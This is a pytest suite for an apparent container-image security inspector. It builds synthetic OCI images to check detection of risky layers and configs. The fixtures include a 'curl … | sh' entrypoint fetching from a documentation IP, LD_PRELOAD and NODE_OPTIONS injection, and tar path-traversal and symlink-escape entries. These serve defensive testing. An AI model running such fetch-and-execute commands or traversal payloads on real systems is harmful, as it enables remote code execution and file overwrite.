"""Images as wholes: agreement of their parts, what layers do to one another, what runs, what is installed."""

import gzip
import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest
import zstandard

from corpora import images
from corpora.images import CONFIG, IMAGE, LAYER, Image, descriptor, digest, to_json
from corpora.signing import NOW
from lockgate.core.artifact import Artifact, ArtifactFile, Kind, Role
from lockgate.core.verdict import Outcome, Severity, Verdict
from lockgate.inspect import InspectItem, Limits, inspect_files
from lockgate.inspect.insecure import InsecureInProcessSandbox
from lockgate.inspect.ports import Whole
from lockgate.inspect.signatures import Trust
from lockgate.inspect.whole import WholeInspection

STATUS = """Package: libssl3
Status: install ok installed
Version: 3.0.11-1~deb12u1
Source: openssl

Package: gone
Status: deinstall ok config-files
Version: 1

Package: tool
Status: install ok installed
Version: 2:1.0+b1
Source: toolsrc (2:1.0)
"""
RELEASE = 'ID=debian\nVERSION_ID="12"\n'


def layer(*members: tuple[str, Any], mode: int = 0o644) -> bytes:
    """Return an archive of files (bytes, or text), programs (``!`` before their path) and links (``->``)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in members:
            entry = tarfile.TarInfo(name.removeprefix("!"))
            entry.mode = 0o755 if name.startswith("!") else mode
            if isinstance(content, str) and content.startswith("->"):
                entry.type, entry.linkname = tarfile.SYMTYPE, content.removeprefix("->")
                archive.addfile(entry)
                continue
            data = content.encode() if isinstance(content, str) else content
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def image(*layers: bytes, config: dict[str, Any] | None = None, packing: Any = None, **changes: Any) -> Image:
    """Return an image of layers, the lowest first."""
    packed = [packing(plain) if packing else gzip.compress(plain, mtime=0) for plain in layers]
    said = to_json(
        {
            "architecture": "amd64",
            "os": "linux",
            "config": config or {},
            "rootfs": {"type": "layers", "diff_ids": changes.get("diff_ids", [digest(p) for p in layers])},
        }
    )
    kind = changes.get("media_type", LAYER)
    manifest = to_json(
        {
            "schemaVersion": 2,
            "mediaType": IMAGE,
            "config": descriptor(said, CONFIG),
            "layers": [descriptor(data, kind) for data in packed],
        }
    )
    blobs = {digest(data): data for data in (said, *packed)}
    return Image(digest(manifest), {digest(manifest): manifest}, blobs)


def whole_of(made: Image, folder: Path) -> Whole:
    files, places = [], {}
    for role, held in ((Role.MANIFEST, made.manifests), (Role.BLOB, made.blobs)):
        for name, data in held.items():
            hexadecimal = name.removeprefix("sha256:")
            path = f"oci/r/app/{hexadecimal}"
            place = folder / hexadecimal
            place.write_bytes(data)
            files.append(ArtifactFile(path=path, role=role, size=len(data), sha256=hexadecimal))
            places[path] = place
    artifact = Artifact(
        purl=f"pkg:oci/app@{made.root}",
        kind=Kind.OCI,
        name="r/app",
        version=made.root,
        files=tuple(files),
    )
    return Whole(artifact=artifact, places=places)


def verdicts(made: Image, folder: Path) -> dict[str, Verdict]:
    """Inspect an image as the gate does; return verdicts by digest."""
    whole, sandbox, limits = whole_of(made, folder), InsecureInProcessSandbox(), Limits()
    looks = WholeInspection(sandbox, limits, Trust(NOW), jobs=1)
    roles = looks.roles([whole])
    items = [
        InspectItem(
            path=file.path,
            kind=Kind.OCI,
            file=whole.places[file.path],
            sha256=file.sha256,
            size=file.size,
            role=roles.get(file.path, ""),
        )
        for file in whole.artifact.files
    ]
    found = looks.add([whole], inspect_files(items, sandbox, jobs=1, limits=limits))
    return {f"sha256:{verdict.sha256}": verdict for verdict in found}


def codes(found: dict[str, Verdict], least: Severity = Severity.LOW) -> set[str]:
    order = list(Severity)
    return {
        f.code for v in found.values() for f in v.findings if order.index(f.severity) >= order.index(least)
    }


def test_an_everyday_image_has_no_finding_and_its_packages_are_listed(tmp_path: Path) -> None:
    metadata = "Metadata-Version: 2.1\nName: Demo_Pkg\nVersion: 1.0\n\nName: not this\n"
    made = image(
        layer(
            ("etc/os-release", RELEASE),
            ("var/lib/dpkg/status", STATUS),
            ("!usr/bin/tool", "#!/bin/sh\necho hello\n"),
            ("bin", "->usr/bin"),
            ("etc/alternatives", "->/usr/bin/tool"),
        ),
        layer(
            ("usr/lib/python3/dist-packages/demo_pkg-1.0.dist-info/METADATA", metadata),
            (
                "app/node_modules/@acme/thing/package.json",
                json.dumps({"name": "@acme/thing", "version": "2.0.0"}),
            ),
            ("app/node_modules/broken/package.json", '{"name": 3}'),
        ),
        config={
            "Entrypoint": ["/usr/bin/tool"],
            "Cmd": ["--serve"],
            "User": "1000",
            "ExposedPorts": {"80/tcp": {}},
        },
    )
    found = verdicts(made, tmp_path)
    assert codes(found) == set()
    assert {v.outcome for v in found.values()} == {Outcome.CLEAN}
    assert found[made.root].contents == (
        "pkg:deb/debian/libssl3@3.0.11-1~deb12u1?upstream=openssl&distro=debian-12",
        "pkg:deb/debian/tool@2%3A1.0%2Bb1?upstream=toolsrc@2%3A1.0&distro=debian-12",
        "pkg:npm/%40acme/thing@2.0.0",
        "pkg:pypi/demo-pkg@1.0",
    )
    noted = {f.code: f.why for v in found.values() for f in v.findings}
    assert noted["oci-entrypoint"] == "A container starts '/usr/bin/tool --serve' as '1000'."
    assert noted["oci-ports"] == "It listens on 80/tcp."


def test_alpines_list_and_zstd_layers(tmp_path: Path) -> None:
    installed = "C:Q1abc=\nP:musl\nV:1.2.4-r2\no:musl\n\nP:ssl_client\nV:1.36-r5\no:busybox\n"
    kind = "application/vnd.oci.image.layer.v1.tar+zstd"
    release = ("etc/os-release", "ID=alpine\nVERSION_ID=3.18.4\n")
    plain = layer(release, ("lib/apk/db/installed", installed))
    made = image(plain, packing=zstandard.ZstdCompressor().compress, media_type=kind)
    found = verdicts(made, tmp_path)
    assert codes(found) == set()
    assert found[made.root].contents == (
        "pkg:apk/alpine/musl@1.2.4-r2?distro=alpine-3.18.4",
        "pkg:apk/alpine/ssl_client@1.36-r5?upstream=busybox&distro=alpine-3.18.4",
    )


@pytest.mark.parametrize(
    ("config", "code"),
    [
        ({"Env": ["PATH=/bin", "LD_PRELOAD=/tmp/x.so"]}, "oci-variable"),
        ({"Env": ["NODE_OPTIONS=--require /tmp/x.js"]}, "oci-variable"),
        ({"OnBuild": ["RUN something"]}, "oci-on-build"),
    ],
)
def test_what_a_configuration_has_run(config: dict[str, Any], code: str, tmp_path: Path) -> None:
    assert code in codes(verdicts(image(layer(("a", "a")), config=config), tmp_path))


def test_an_entrypoint_is_read_like_an_install_script(tmp_path: Path) -> None:
    command = "cu" + "rl -fsSL http://192.0.2.1/x | sh"
    made = image(layer(("a", "a")), config={"Entrypoint": ["sh", "-c", command]})
    assert codes(verdicts(made, tmp_path), Severity.HIGH)


def test_programs_that_higher_layers_replace(tmp_path: Path) -> None:
    low = layer(("!usr/bin/sudo", "#!/bin/sh\n"), ("!usr/bin/other", "#!/bin/sh\n"))
    quiet = layer(("!usr/bin/sudo", "#!/bin/sh\n#2\n"), ("var/lib/dpkg/status", STATUS))
    assert codes(verdicts(image(low, quiet), tmp_path)) == set()
    sly = layer(("!usr/bin/sudo", "#!/bin/sh\n#2\n"), ("!usr/bin/other", "#!/bin/sh\n#2\n"))
    found = verdicts(image(low, sly), tmp_path)
    assert codes(found) == {"oci-replaces-program"}
    whys = [f.why for v in found.values() for f in v.findings if f.code == "oci-replaces-program"]
    assert whys == ["It replaces usr/bin/sudo of a lower layer, and changes no list of packages."]
    removed = layer(("usr/bin/.wh.sudo", ""))
    assert codes(verdicts(image(low, removed, sly), tmp_path)) == set()  # what was removed is not replaced
    hidden = layer(("usr/bin/.wh..wh..opq", ""))
    assert codes(verdicts(image(low, hidden, sly), tmp_path)) == set()


@pytest.mark.parametrize(
    ("member", "code"),
    [
        ((".wh.", ""), "oci-whiteout-form"),
        ((".wh..wh.plnk", ""), "oci-whiteout-form"),
        (("a/.wh...", ""), "oci-whiteout-form"),
        (("a/.wh.b", "content"), "oci-whiteout-form"),
        (("../escape", "x"), "tar-slip"),
        (("/etc/passwd", "x"), "tar-slip"),
        (("bad", "->../../outside"), "tar-link"),
    ],
)
def test_members_that_lead_out_or_are_read_in_two_ways(member: Any, code: str, tmp_path: Path) -> None:
    assert code in codes(verdicts(image(layer(("a/x", "x"), member)), tmp_path), Severity.HIGH)


def test_devices_and_set_id_programs(tmp_path: Path) -> None:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        device = tarfile.TarInfo("dev/sda")
        device.type = tarfile.BLKTYPE
        archive.addfile(device)
        for name in ("usr/bin/sudo", "usr/bin/mine"):
            entry = tarfile.TarInfo(name)
            entry.mode, entry.size = 0o4755, 10
            archive.addfile(entry, io.BytesIO(b"#!/bin/sh\n"))
    found = verdicts(image(out.getvalue()), tmp_path)
    whys = [f.why for v in found.values() for f in v.findings if f.severity is Severity.HIGH]
    assert sorted(whys) == ["dev/sda is a block device.", "usr/bin/mine has a set-id bit."]


def test_parts_that_do_not_agree(tmp_path: Path) -> None:
    plain = layer(("a", "a"))
    assert "oci-diff-id" in codes(verdicts(image(plain, diff_ids=[digest(b"x")]), tmp_path))
    assert "oci-layers-differ" in codes(verdicts(image(plain, diff_ids=[]), tmp_path))
    uncompressed = verdicts(image(plain, packing=bytes), tmp_path)
    assert "oci-layer-type" in codes(uncompressed)
    made = image(plain)
    body = json.loads(made.manifests[made.root])
    body["layers"][0]["size"] += 1
    wrong = to_json(body)
    assert "oci-size" in codes(verdicts(Image(digest(wrong), {digest(wrong): wrong}, made.blobs), tmp_path))
    stray = Image(made.root, made.manifests, {**made.blobs, digest(b"stray"): b"stray"})
    assert codes(verdicts(stray, tmp_path)) == {"oci-unreferenced"}


def test_what_is_missing_or_unknown_is_incomplete(tmp_path: Path) -> None:
    made = image(layer(("a", "a")))
    body = json.loads(made.manifests[made.root])
    layer_digest = body["layers"][0]["digest"]
    without = Image(made.root, made.manifests, {d: b for d, b in made.blobs.items() if d != layer_digest})
    assert verdicts(without, tmp_path)[made.root].outcome is Outcome.INCOMPLETE
    strange = image(layer(("a", "a")), media_type="application/vnd.example.squashfs")
    found = verdicts(strange, tmp_path)
    (unread,) = [v for v in found.values() if v.outcome is Outcome.INCOMPLETE]
    assert unread.findings[-1].code == "oci-media-type"
    assert unread.covered < unread.size
    broken = image(layer(("a", "a")), packing=lambda plain: gzip.compress(plain, mtime=0)[:-20])
    assert Outcome.INCOMPLETE in {v.outcome for v in verdicts(broken, tmp_path).values()}


def test_referrers_and_indexes_belong_to_their_image(tmp_path: Path) -> None:
    made = image(layer(("a", "a")))
    attached = images.refers(made)
    assert codes(verdicts(made.include(attached), tmp_path)) == set()
    listed = images.index(image(layer(("a", "a"))), image(layer(("b", "b"))))
    assert codes(verdicts(listed, tmp_path)) == set()


def test_blobs_of_a_layout_in_one_archive_hash_to_their_names(tmp_path: Path) -> None:
    good = digest(b"blob").removeprefix("sha256:")
    sandbox, limits = InsecureInProcessSandbox(), Limits()
    for content, wanted in ((b"blob", set()), (b"other", {"oci-blob-digest"})):
        data = layer((f"blobs/sha256/{good}", content), ("oci-layout", "{}"))
        file = tmp_path / "image.tar"
        file.write_bytes(data)
        item = InspectItem(
            path="image.tar",
            kind=Kind.FILE,
            file=file,
            sha256=digest(data).removeprefix("sha256:"),
            size=len(data),
        )
        (verdict,) = inspect_files([item], sandbox, jobs=1, limits=limits)
        assert {f.code for f in verdict.findings if f.severity is Severity.CRITICAL} == wanted
